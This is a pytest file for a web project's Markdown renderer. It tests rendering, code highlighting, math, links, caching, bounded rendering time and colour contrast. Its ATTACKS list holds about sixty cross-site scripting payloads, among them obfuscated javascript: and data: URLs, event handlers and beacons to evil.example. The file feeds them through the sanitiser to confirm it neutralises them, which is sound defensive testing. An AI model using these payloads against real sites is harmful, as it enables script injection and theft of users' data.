"""Rendered text: Markdown is displayed as intended, and no text can become anything but text."""

import re
import subprocess
import sys
import time
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from clawsite.infra.markdown import highlight
from clawsite.infra.markdown import render as markup
from clawsite.infra.markdown.render import render_markdown

STATIC = Path(__file__).parents[2] / "static/css"
ALLOWED = {
    "a": {"href", "rel", "target", "class"},
    "pre": {"class", "data-language"},
    "span": {"class"},
    "div": {"class"},
    "th": {"class"},
    "td": {"class"},
    "li": {"class"},
    "ol": {"start"},
    "input": {"type", "disabled", "checked"},
}


class Page(HTMLParser):
    """Return what a browser would display."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.other: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text += data

    def handle_comment(self, data):
        self.other.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment

    def links(self) -> list[str | None]:
        return [attributes.get("href") for tag, attributes in self.tags if tag == "a"]


def assert_harmless(html: str) -> Page:
    page = Page(html)
    assert page.other == []
    for tag, attributes in page.tags:
        assert tag in markup.ALLOWED_TAGS
        assert set(attributes) <= ALLOWED.get(tag, set()), (tag, attributes)
        if tag == "a":
            if (address := attributes.get("href", "")) != "":  # nh3 leaves a link without an href if its host is invalid
                assert urlsplit(address or "").scheme in ("http", "https", "mailto"), address
            assert (attributes["rel"], attributes["target"]) == ("noopener noreferrer nofollow", "_blank")
        if tag == "input":
            assert attributes["type"] == "checkbox" and "disabled" in attributes
        assert set((attributes.get("class") or "").split()) <= markup.ALLOWED_CLASSES.get(tag, set())
    return page


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("# One\n## Two", "<h1>One</h1>\n<h2>Two</h2>\n"),
        ("a **b** *c* ~~d~~ `e`", "<p>a <strong>b</strong> <em>c</em> <s>d</s> <code>e</code></p>\n"),
        ("one\ntwo", "<p>one<br>\ntwo</p>\n"),
        ("- a\n  1. b", "<ul>\n<li>a\n<ol>\n<li>b</li>\n</ol>\n</li>\n</ul>\n"),
        ("3. c", '<ol start="3">\n<li>c</li>\n</ol>\n'),
        ("- [x] done", '<ul>\n<li class="task-list-item"><input disabled="" type="checkbox" checked=""> done</li>\n</ul>\n'),
        ("> said", "<blockquote>\n<p>said</p>\n</blockquote>\n"),
        ("***", "<hr>\n"),
        ("a < b & c > d", "<p>a &lt; b &amp; c &gt; d</p>\n"),
        ("```\nx < y\n```", '<pre class="code"><code>x &lt; y\n</code></pre>\n'),
        ("    x", '<pre class="code"><code>x\n</code></pre>\n'),
    ],
)
def test_markdown_is_rendered(text: str, html: str) -> None:
    assert render_markdown(text) == html


def test_table_alignment_is_rendered_as_a_class() -> None:
    html = render_markdown("| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |")
    assert '<th class="left">a</th>' in html
    assert '<td class="center">2</td>' in html
    assert '<td class="right">3</td>' in html
    assert "style" not in html


def test_code_is_highlighted_and_labeled_with_its_language() -> None:
    html = render_markdown("```python\ndef f(): return 'x'  # why\n```")
    assert html.startswith('<pre class="code" data-language="python"><code><span class="k">def</span> <span class="nf">f</span>():')
    assert '<span class="c"># why</span>' in html
    assert render_markdown("```py\n1\n```").startswith('<pre class="code" data-language="py"><code><span class="m">1</span>')


@pytest.mark.parametrize("language", ["klingon", "text", "", "a" * 33])
def test_code_in_unknown_language_is_not_highlighted(language: str) -> None:
    assert "<span" not in render_markdown(f"```{language}\nif 1: pass\n```")


def test_overlong_code_is_complete_but_not_highlighted() -> None:
    code = "x = 1\n" * 20_000
    html = render_markdown(f"```python\n{code}```")
    assert "<span" not in html
    assert Page(html).text.strip() == code.strip()


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("so $a_1 * b_2 * c$ holds", '<span class="math">$a_1 * b_2 * c$</span>'),
        (r"so \(a_1\) holds", r'<span class="math">\(a_1\)</span>'),
        ("$$\nx_1\n- y < z\n$$", '<div class="math">$$\nx_1\n- y &lt; z\n$$</div>'),
        ("\\[ x^2 \\]", '<div class="math">\\[ x^2 \\]</div>'),
        ("see $$x_1$$ here", '<span class="math">$$x_1$$</span>'),
    ],
)
def test_formulas_are_kept_as_written(text: str, shown: str) -> None:
    assert shown in render_markdown(text)


@pytest.mark.parametrize("text", ["it costs $5 and $6", "a $ b $ c", "$$", r"\(", "`$a$`", "price: $5"])
def test_currency_amounts_are_not_formulas(text: str) -> None:
    assert "math" not in render_markdown(text)


@pytest.mark.parametrize(
    ("text", "link"),
    [
        ("[a](https://example.org/x)", "https://example.org/x"),
        ("<https://example.org>", "https://example.org"),
        ("<a@example.org>", "mailto:a@example.org"),
        ("see https://example.org/a_b_(c)?d=1&e=2.", "https://example.org/a_b_(c)?d=1&e=2"),
        ("(https://example.org)", "https://example.org"),
        ("**https://example.org/**", "https://example.org/"),
        ("见 https://example.org/路径，然后", "https://example.org/路径"),
        ("[a]\n\n[a]: http://example.org", "http://example.org"),
    ],
)
def test_links_open_web_pages_in_a_new_tab(text: str, link: str) -> None:
    assert assert_harmless(render_markdown(text)).links() == [link]


def test_images_become_links_and_are_never_loaded() -> None:
    page = assert_harmless(
        render_markdown("![a cat](https://example.org/cat.png?secret=1) [![inner](http://a.example)](http://b.example)")
    )
    assert page.links() == ["https://example.org/cat.png?secret=1", "http://b.example"]
    assert page.text.split() == ["a", "cat", "inner"]


ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '<svg><script href="data:,alert(1)"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<math href="javascript:alert(1)">CLICK</math>',
    "<style>@import 'https://evil.example';</style>",
    '<p style="background:url(https://evil.example)">x</p>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<object data=javascript:alert(1)><embed src=x>",
    '<form action="https://evil.example"><button formaction="javascript:alert(1)">x</button></form>',
    '<base href="https://evil.example">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example">',
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<!-- --><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](DATA:text/html,<script>alert(1)</script>)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/sign-out/)",
    "[x](http:javascript:alert(1))",
    "[x]\n\n[x]: javascript:alert(1)",
    "[x](https://ok.example 'a\" onmouseover=\"alert(1)')",
    '[x](https://ok.example/"onmouseover="alert(1))',
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "![beacon](https://evil.example/?q=secret)",
    '![x" onerror="alert(1)](https://evil.example)',
    '```"><script>alert(1)</script>\nx\n```',
    '```python" onmouseover="alert(1)\nx\n```',
    "```<img/src=x/onerror=alert(1)>\nx\n```",
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "$<script>alert(1)</script>$",
    "$$\n<img src=x onerror=alert(1)>\n$$",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    '- [x] <input type="text" onfocus=alert(1) autofocus>',
    'https://example.org/"onmouseover=alert(1)//',
    "https://example.org/<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)\\</script>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "﻿<script>alert(1)</script>",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_malicious_markup_is_rendered_as_text(text: str) -> None:
    assert_harmless(render_markdown(text))


SIGNS = [
    "[",
    "](",
    ")",
    "<",
    ">",
    "`",
    "```",
    "\n",
    "\n\n",
    "$",
    "$$",
    "\\(",
    "|",
    "|-|",
    "- ",
    "> ",
    "#",
    "*",
    "_",
    "~~",
    "&#",
    ";",
]
NASTY = st.sampled_from([*ATTACKS, *SIGNS, "![", ": "])


@settings(max_examples=400, deadline=None)
@given(st.lists(NASTY | st.text(max_size=8), max_size=12).map("".join))
@example("<a href='javascript:alert(1)'>")
def test_rendered_html_contains_only_allowed_markup(text: str) -> None:
    assert_harmless(render_markdown(text))


@settings(max_examples=150, deadline=None)
@given(st.text(alphabet=st.characters(categories=("L", "N", "Zs")), max_size=200))
def test_plain_text_is_rendered_completely(text: str) -> None:
    assert "".join(Page(render_markdown(text)).text.split()) == "".join(text.split())


@pytest.mark.parametrize("size", [markup.MAX_TEXT_LENGTH, 1 << 20])
@pytest.mark.parametrize(
    "sign",
    ["[", "*", "![", "[a](", "*_", "a_", ">", "- ", "|\n", "`", "<", "\\(", "\\[ \\] x\n", "$", "[[]", "- a\n", "```\n"],
)
def test_pathological_text_is_rendered_in_bounded_time(sign: str, size: int) -> None:
    """The limit is far above what it takes (2 s) and far below what it took without limits (minutes)."""
    text = (sign * (size // len(sign) + 1))[:size]
    before = time.thread_time()
    assert_harmless(render_markdown(text)[:100_000].rpartition("<")[0])
    assert time.thread_time() - before < 20


@pytest.mark.parametrize(("columns", "rows"), [(256, 255), (100, 190), (20, 900)])
def test_missing_table_cells_are_filled_up_to_limit(columns: int, rows: int) -> None:
    table = "|a" * columns + "\n" + "|-" * columns + "\n" + "|\n" * rows + "\n"
    html = render_markdown(table * (markup.MAX_TEXT_LENGTH // len(table)))
    assert html.count("<td>") <= markup.MAX_CELLS
    assert html.count("<table>") >= 1
    assert_harmless(html[:100_000].rpartition("<")[0])


def test_long_complete_table_is_rendered_as_table() -> None:
    html = render_markdown("a|b|c\n-|-|-\n" + "1|2|3\n" * 2_000 + "\nand words behind it")
    assert html.count("<tr>") == 2_001
    assert "<p>and words behind it</p>" in html


@pytest.mark.parametrize(
    ("language", "sign"), [("c", "\n "), ("java", "a "), ("yaml", "@"), ("ini", "="), ("html", "<!--"), ("ts", "a.")]
)
@pytest.mark.parametrize("line", [100_000, 400])
def test_pathological_code_is_highlighted_in_bounded_time(language: str, sign: str, line: int) -> None:
    rows = [sign * (line // len(sign))] * (90_000 // line)
    code = "\n".join(rows) + "\n"
    before = time.thread_time()
    html = render_markdown(f"```{language}\n{code}```")
    assert time.thread_time() - before < 10
    assert Page(html).text == code + "\n"


def test_nested_lists_keep_their_text() -> None:
    text = "".join("  " * depth + f"- w{depth}\n" for depth in range(25))
    assert Page(render_markdown(text)).text.split() == [f"w{depth}" for depth in range(25)]


def test_rendered_text_is_cached(monkeypatch: pytest.MonkeyPatch) -> None:
    first = render_markdown("remembered *words*")
    monkeypatch.setattr(markup, "_make_parser", None)
    assert render_markdown("remembered *words*") is first


def test_render_cache_is_bounded() -> None:
    kept = markup._RenderCache(10)
    kept.put("aa", "bbb")
    kept.put("cc", "ddd")
    kept.put("ee", "fff")
    assert (kept.get("aa"), kept.get("cc"), kept.get("ee")) == (None, "ddd", "fff")


def test_importing_markup_loads_no_library() -> None:
    code = "import sys, clawsite.infra.markdown.render; print([m for m in ('nh3', 'markdown_it', 'pygments') if m in sys.modules])"
    assert subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout.strip() == "[]"


@pytest.mark.parametrize("name", sorted(set(highlight.LEXER_BY_ALIAS.values())))
def test_every_listed_language_has_a_lexer(name: str) -> None:
    assert highlight._load_lexer(name)


def test_every_highlight_class_has_sufficient_contrast() -> None:
    pairs = r"--([\w-]+): light-dark\((#\w{6}), (#\w{6})\)"
    tokens, code = (STATIC / "tokens.css").read_text(), (STATIC / "code.css").read_text()
    ground = {name: shades for name, *shades in re.findall(pairs, tokens)}["code"]
    for name, *shades in re.findall(pairs, code):
        for shade, behind in zip(shades, ground, strict=True):
            lighter, darker = sorted((_luminance(shade), _luminance(behind)), reverse=True)
            assert (lighter + 0.05) / (darker + 0.05) >= 4.5, (name, shade)
    uncoloured = {"o"}
    assert set(re.findall(r"\.code \.(\w+)", code)) == highlight.CLASSES - uncoloured


def _luminance(colour: str) -> float:
    shares = [int(colour[at : at + 2], 16) / 255 for at in (1, 3, 5)]
    red, green, blue = [share / 12.92 if share <= 0.04045 else ((share + 0.055) / 1.055) ** 2.4 for share in shares]
    return 0.2126 * red + 0.7152 * green + 0.0722 * blue
